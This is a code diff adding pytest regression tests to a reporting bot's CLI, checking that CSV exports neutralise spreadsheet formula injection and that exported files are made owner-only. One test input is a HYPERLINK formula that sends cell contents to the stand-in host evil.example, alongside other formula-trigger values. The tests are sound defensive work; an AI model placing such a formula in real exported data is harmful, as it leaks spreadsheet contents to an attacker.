@@ -6,14 +6,17 @@ import asyncio
 import csv
 import io
 import json
+import stat
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cryptography.fernet import Fernet
 from typer.testing import CliRunner
 
 from bot.cli import app
+from bot.cli.reports import _csv
 from bot.services.clock import FixedClock
 from bot.services.reports import ReportCipher, ReportService
 from bot.storage import ContactRepository, ReportRepository, make_engine, make_sessionmaker
@@ -154,3 +157,63 @@ def test_problems_are_one_line_and_exit_2(
     assert len(result.stderr.splitlines()) == 1
     assert STORY not in result.output
     assert "nonsense" not in result.output
+
+
+def test_regression_csv_cells_that_a_spreadsheet_would_run_stay_text(
+    database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("DATABASE_URL", database_url)
+    monkeypatch.setenv("REPORT_KEYS", KEY)
+    typed = {
+        "story": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "area": "+44 20 7946 0000",
+        "people": "-2+3",
+        "what": "@SUM(A1)",
+        "witnesses": "\t=1",
+        "impact": "fine - really",
+    }
+    asyncio.run(_store_answers(database_url, typed))
+    output = tmp_path / "reports.csv"
+
+    result = runner.invoke(app, ["reports", "export", "--format", "csv", "-o", str(output)])
+
+    assert result.exit_code == 0, result.output
+    # Bytes, not read_text: its newline translation would turn the "\r" cell into "\n".
+    (row,) = csv.DictReader(io.StringIO(output.read_bytes().decode("utf-8"), newline=""))
+    for name, value in typed.items():
+        expected = value if name == "impact" else "'" + value
+        assert row[name] == expected
+
+
+def test_regression_an_existing_output_file_is_made_private(stored: str, tmp_path: Path) -> None:
+    output = tmp_path / "reports.json"
+    output.write_text("old")
+    output.chmod(0o644)
+
+    result = runner.invoke(app, ["reports", "export", "--format", "json", "-o", str(output)])
+
+    assert result.exit_code == 0, result.output
+    assert stat.S_IMODE(output.stat().st_mode) == 0o600
+    assert STORY in output.read_text(encoding="utf-8")
+
+
+async def _store_answers(url: str, answers: dict[str, Any]) -> None:
+    engine = make_engine(url)
+    try:
+        makers = make_sessionmaker(engine)
+        now = datetime.now(UTC)
+        person = await ContactRepository(makers).get_or_create(9, now=now)
+        reports = ReportService(ReportRepository(makers), ReportCipher([KEY]), FixedClock(now))
+        await reports.submit(answers, consent="police", anonymous=False, contact=person)
+    finally:
+        await engine.dispose()
+
+
+def test_regression_a_cell_starting_with_a_carriage_return_stays_text() -> None:
+    # Not through a file: csv's reader would end the row at the lone "\r" it holds.
+    row: dict[str, Any] = {"id": 1, "answers": {"story": "\r=1", "area": "Leeds"}}
+    row |= dict.fromkeys(("created_at", "updated_at", "consent", "status", "anonymous"), "")
+    row["additions"] = []
+
+    assert "'\r=1" in _csv([row])
+    assert ",Leeds" in _csv([row])
